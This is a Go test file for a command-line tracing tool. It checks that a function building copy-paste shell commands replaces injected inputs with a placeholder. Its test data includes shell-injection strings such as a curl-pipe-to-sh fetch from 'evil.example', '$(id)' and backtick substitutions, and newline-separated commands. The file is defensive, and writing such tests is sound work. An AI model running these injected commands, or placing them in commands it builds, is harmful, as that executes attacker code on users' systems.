package page_test

import (
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/traceforge/traceforge-go/internal/page"
	"github.com/traceforge/traceforge-go/snapshot"
)

// TestProgramAgain: people copy into a shell what a document or a receipt names as a program's command. It can be
// nothing else there.
func TestProgramAgain(t *testing.T) {
	const again = "traceforge exec flow --update "
	for _, of := range []string{
		"node app.mjs", "node -e 'a; b' --update", `sh -c 'echo '\''a b'\'''`, `node $'a\012b'`, "node '`id`'",
	} {
		require.Equal(t, again+"-- "+of, page.ProgramAgain("flow", of, ""))
	}
	for _, of := range []string{
		"--dir golden -- node app.mjs", "--stream-timing --scrub KEY --scrub 'a b' -- node", "--nondeterministic -- -- node",
	} {
		require.Equal(t, again+of, page.ProgramAgain("flow", of, ""))
	}
	for _, of := range []string{
		"", "node app.mjs; curl -s evil.example/x | sh #", "node 'a'; id #'", "node `id`", "node $(id)", "node\nid", "-- node; id",
		"--update=all -- node", "--help -- node", "--dir", "--dir x", "--dir x --", "--dir x; id -- node", "-x -- node", "--dir=x -- node",
		"--", "dir -- node; id", "--stream-timing", "--stream-timing node",
	} {
		require.Equal(t, again+"-- COMMAND", page.ProgramAgain("flow", of, ""), "%q", of)
	}
	hostile := []page.Place{{Package: snapshot.ProgramPackage, Test: "flow", Command: "node; id"}}
	require.Equal(t, again+"-- COMMAND", page.Again(hostile, ""), "of a receipt")
}

func TestRunPattern(t *testing.T) {
	require.Empty(t, page.RunPattern(nil))
	require.Equal(t, "^TestAsk$/^a\\+b$", page.RunPattern([]string{"TestAsk/a+b"}))
	require.Equal(t, "^(TestA|TestB)$", page.RunPattern([]string{"TestB", "TestA/x", "TestA/y"}))
}
